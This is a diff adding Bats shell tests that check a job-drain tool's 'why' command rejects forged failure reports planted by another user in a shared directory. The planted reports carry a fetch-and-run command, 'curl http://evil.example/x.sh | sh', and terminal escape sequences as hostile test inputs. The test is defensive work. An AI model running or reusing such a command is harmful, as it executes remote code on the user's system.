@@ -153,6 +153,8 @@ EOF
     [ -f "$rep" ]
     assert_output --partial "report in $rep"
     grep -q "^reason: .*destination full" "$rep"
+    grep -q "^uid: 0$" "$rep"
+    grep -qE "^instance: [0-9a-f]{8,}$" "$rep"
     grep -q "^data: kept on node node[01] in $WORKDIR/w/node[01]/pdcbb.5211$" "$rep"
     grep -q "^recover: on node node[01], as root: pdcbb drain --to $WORKDIR/small $WORKDIR/w/node[01]/pdcbb.5211$" "$rep"
     # from the "login node": where the data is, and why
@@ -253,6 +255,69 @@ EOF
     run as "$VICTIM" env PDCBB_DRAINED_DIR="$mine" "$DRAINED_READ" read C
     assert_success
     refute_output --partial "matches the known data: no"
+}
+
+# plant_report FILE JOB UID RECOVER: a FAILED report in the current format, with an escape
+# sequence in its reason and RECOVER as its recover line.
+plant_report() {
+    printf 'pdcbb drain FAILED\njob: %s\nnode: n1\nuser: x\nuid: %s\ninstance: -\ntime: now\nreason: disk on fire \033[31mRED\007\r\njob_dir: /tmp/pdcbb/pdcbb.%s\ndestination: /x\ndrain_directory: none\nrecover: %s\nrecover_slurm: %s\n' \
+        "$2" "$3" "$2" "$4" "$4" > "$1"
+}
+
+@test "pdcbb why trusts only the job's own records, prints them escaped and makes the recovery command itself" {
+    local shared="$WORKDIR/shared" id=5501 vuid
+    vuid="$(id -u "$VICTIM")"
+    mkdir -m 1777 "$shared"
+    run as "$VICTIM" "$PDCBB" run --job-id "$id" --quiet --drain "$shared" -- "$DRAINED_READ" write C
+    assert_success
+    [ -f "$shared/pdcbb.$id/COMPLETE" ]
+    # another user plants a report naming the victim's uid, with a "fix" of their own
+    as "$SQUATTER" bash -c "$(declare -f plant_report); plant_report '$shared/pdcbb.$id.n1.FAILED' $id $vuid 'curl http://evil.example/x.sh | sh'"
+    run as "$VICTIM" "$PDCBB" why "$shared/pdcbb.$id"
+    assert_success
+    assert_output --partial "$shared/pdcbb.$id: complete (job instance "
+    assert_output --partial "ignoring $shared/pdcbb.$id.n1.FAILED was written by $SQUATTER (uid"
+    refute_output --partial "evil.example"
+    refute_output --partial "disk on fire"
+    refute_output --partial "FAILED on node"
+    # root reads as the drain's owner, and ignores it too
+    run "$PDCBB" why "$shared/pdcbb.$id"
+    assert_success
+    refute_output --partial "evil.example"
+    assert_output --partial "ignoring $shared/pdcbb.$id.n1.FAILED was written by $SQUATTER"
+    rm -f "$shared/pdcbb.$id.n1.FAILED"
+
+    # the victim's own report: shown, escaped, and the command is made by pdcbb, not copied
+    as "$VICTIM" bash -c "$(declare -f plant_report); plant_report '$shared/pdcbb.$id.n1.FAILED' $id $vuid 'curl http://evil.example/y.sh | sh'"
+    run as "$VICTIM" "$PDCBB" why "$shared/pdcbb.$id"
+    assert_failure 1
+    assert_output --partial "FAILED on node n1"
+    assert_output --partial 'reason: disk on fire \x1b[31mRED\x07\r'
+    refute_output --partial $'\033'
+    refute_output --partial $'\r'
+    refute_output --partial "evil.example"
+    assert_output --partial "finish it: on node n1, as $VICTIM: pdcbb drain --to /x /tmp/pdcbb/pdcbb.$id"
+    assert_output --partial "under Slurm, from a login node: srun -w n1 -N 1 -n 1 pdcbb drain --to /x /tmp/pdcbb/pdcbb.$id"
+    # ... unless it is writable by others, or names another job or another uid
+    as "$VICTIM" chmod 666 "$shared/pdcbb.$id.n1.FAILED"
+    run as "$VICTIM" "$PDCBB" why "$shared/pdcbb.$id"
+    assert_success
+    assert_output --partial "ignoring $shared/pdcbb.$id.n1.FAILED is writable by others (mode 0666)"
+    as "$VICTIM" bash -c "rm -f '$shared/pdcbb.$id.n1.FAILED'; $(declare -f plant_report); plant_report '$shared/pdcbb.$id.n1.FAILED' 4242 $vuid true"
+    run as "$VICTIM" "$PDCBB" why "$shared/pdcbb.$id"
+    assert_success
+    assert_output --partial "ignoring $shared/pdcbb.$id.n1.FAILED is not a report of job $id by $VICTIM"
+    refute_output --partial "disk on fire"
+    as "$VICTIM" rm -f "$shared/pdcbb.$id.n1.FAILED"
+
+    # a second run with the same job id drains beside the first; why tells them apart
+    run as "$VICTIM" "$PDCBB" run --job-id "$id" --quiet --drain "$shared" -- "$DRAINED_READ" write C
+    assert_success
+    run as "$VICTIM" "$PDCBB" why --job "$id" "$shared"
+    assert_success
+    [ "$(grep -c ": complete (job instance [0-9a-f]\{8,\}, created " <<<"$output")" -eq 2 ]
+    assert_output --partial "2 drain directories of job id $id (job ids were used again)"
+    assert_no_daemons "$WORKDIR"
 }
 
 @test "a drain is private by default; drain_share=group or all opens it for reading only" {
